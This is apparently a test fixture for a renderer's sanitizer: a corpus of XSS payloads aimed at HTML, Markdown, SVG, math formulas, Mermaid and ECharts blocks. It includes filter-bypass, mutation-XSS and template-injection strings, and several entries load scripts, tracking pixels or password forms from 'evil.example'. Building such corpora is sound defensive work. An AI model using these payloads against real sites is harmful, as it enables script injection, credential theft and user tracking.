/** What every payload does where it runs, and whom it tells. */
const RUN = 'window.__pwned=1';
const HOST = 'http://evil.example';

/**
 * Texts that try to be more than text, one a class of attack or of a way round a filter. Each would set `window.__pwned`, open a dialog,
 * load something from a foreign host, or lead the page away.
 */
export const CORPUS: readonly string[] = [
  // Scripts.
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT\t>`,
  `<script src="${HOST}/a.js"></script>`,
  `<script/src=data:text/javascript,${RUN}></script>`,
  `<script type="module">import '${HOST}/m.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<!--</script><script>${RUN}//-->`,
  `<script type="application/json" id="shared">{"gone":true}</script>`,
  // Handlers of events.
  `<img src=x onerror=${RUN}>`,
  `<img src="x" OnErRoR="${RUN}"/>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>开</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src onerror=${RUN}>`,
  `<marquee onstart=${RUN}>走</marquee>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">盖住</div>`,
  `<p style="animation:x" onanimationstart=${RUN}>x<style>@keyframes x{}</style>`,
  `<button popovertarget=p onclick=${RUN}>x</button><b id=p popover onbeforetoggle=${RUN}>y</b>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  '`><img src=x onerror=' + RUN + '>',
  // Addresses that are scripts.
  `<a href="javascript:${RUN}">点这里</a>`,
  `[点这里](javascript:${RUN})`,
  `[点这里](JaVaScRiPt:${RUN})`,
  `[点这里](java&#115;cript:${RUN})`,
  `[点这里](java\tscript:${RUN})`,
  `[点这里](\u0001javascript:${RUN})`,
  `[点这里](<javascript:${RUN}>)`,
  `[点这里](vbscript:msgbox(1))`,
  `[点这里](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[点这里](blob:${HOST}/1)`,
  `[点这里](file:///etc/passwd)`,
  `<javascript:${RUN}>`,
  `<https://a.example/"onmouseover="${RUN}>`,
  `[点这里](https://a.example/\\"onmouseover=${RUN})`,
  `[点这里](https://a.example "x\\" onmouseover=${RUN} y=\\"")`,
  `https://a.example/'"><img/src=x/onerror=${RUN}>`,
  // Pictures, which would tell their host who reads.
  `![x](${HOST}/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x](/\\evil.example/pixel.png)`,
  `![x" onerror="${RUN}](x)`,
  `![x](x "y\\" onerror=${RUN} z=\\"")`,
  `![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fcHduZWQ9MSIvPg==)`,
  `[![x](${HOST}/in.png)](javascript:${RUN})`,
  // References of Markdown.
  `[点这里][r]\n\n[r]: javascript:${RUN}`,
  `![x][i]\n\n[i]: ${HOST}/ref.png "onerror=${RUN}"`,
  `[1]: javascript:${RUN}\n\n[1]`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  // Drawings and formulas.
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">点</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${RUN} /></svg>#x"/>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">点</maction></math>`,
  `$\\href{javascript:${RUN}}{点}$ 与 $$\\url{javascript:${RUN}}$$`,
  `$\\htmlData{x=" onmouseover=${RUN} "}{点}$ \\(\\includegraphics{${HOST}/f.png}\\)`,
  `$$\\htmlStyle{background:url(${HOST}/s.png)}{点} \\class{md-cite}{点}$$`,
  `$"><img src=x onerror=${RUN}>$ \\[<script>${RUN}</script> = 1\\]`,
  `$$\\def\\a{\\a\\a}\\a$$ 与 $\\rule{9999em}{9999em}$`,
  '```mermaid\nflowchart TD\nA[<img src=x onerror=' +
    RUN +
    '>] --> B["<script>' +
    RUN +
    '</script>"]\nclick A href "javascript:' +
    RUN +
    '"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(' +
    HOST +
    '/c.png)}"}}%%\ngraph LR\nA-->B\nclick A call alert(1)\n```',
  '```echarts\n{"title":{"text":"x","link":"javascript:' +
    RUN +
    '"},"series":[{"type":"pie","data":[1],"symbol":"image://' +
    HOST +
    '/e.png","label":{"formatter":"<img src=x onerror=' +
    RUN +
    '>"}}]}\n```',
  '```echarts\n{"__proto__":{"x":1},"backgroundColor":{"image":"' +
    HOST +
    '/b.png"},"series":[{"type":"bar","data":[1]}],"xAxis":{"data":["</svg><script>' +
    RUN +
    '</script>"]},"yAxis":{}}\n```',
  // Pages in the page, and what leads it away.
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
  `<embed src="${HOST}/x.swf">`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/">`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<style>@import '${HOST}/y.css';</style>`,
  `<div style="background:url(${HOST}/z.png)">x</div>`,
  `<form action="${HOST}/"><input name=password><button>确定</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">点</button>`,
  // What becomes a tag only when it is parsed a second time.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xmp></xmp><plaintext><img src=x onerror=${RUN}>`,
  // Entities, halves of them, and other alphabets.
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<\u200bscript>${RUN}</script>`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<img src=x onerror="&#119;indow.__pwned=1">`,
  `ſcript <ſcript>${RUN}</ſcript>`,
  // Templates.
  `{{constructor.constructor('${RUN}')()}}`,
  `{{_c.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `<div v-html="'<img src=x onerror=${RUN}>'" @click="${RUN}"></div>`,
  `<template><img src=x onerror=${RUN}></template>`,
  // What the server puts into its page.
  `<!--head--><!--content--><!--data-->$&$\`$'$1`,
  `--><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  // Blocks of Markdown.
  `| 甲 | 乙 |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  '```html"onmouseover="' + RUN + '\n<script>' + RUN + '</script>\n```',
  '```<img src=x onerror=' + RUN + '>\n</code></pre><img src=x onerror=' + RUN + '>\n```',
  '`</code><img src=x onerror=' + RUN + '>`',
  `> <img src=x onerror=${RUN}>\n\n- <svg onload=${RUN}>\n  1. [x](javascript:${RUN})`,
  `# <img src=x onerror=${RUN}>`,
  `<div>\n\n<img src=x onerror=${RUN}>\n\n</div>`,
  `**<b onmouseover=${RUN}>** ~~<i onclick=${RUN}>~~`,
  // Names by which scripts might look something up.
  `__proto__`,
  `<img name=getElementById><form id=app><input id=shared></form>`,
];
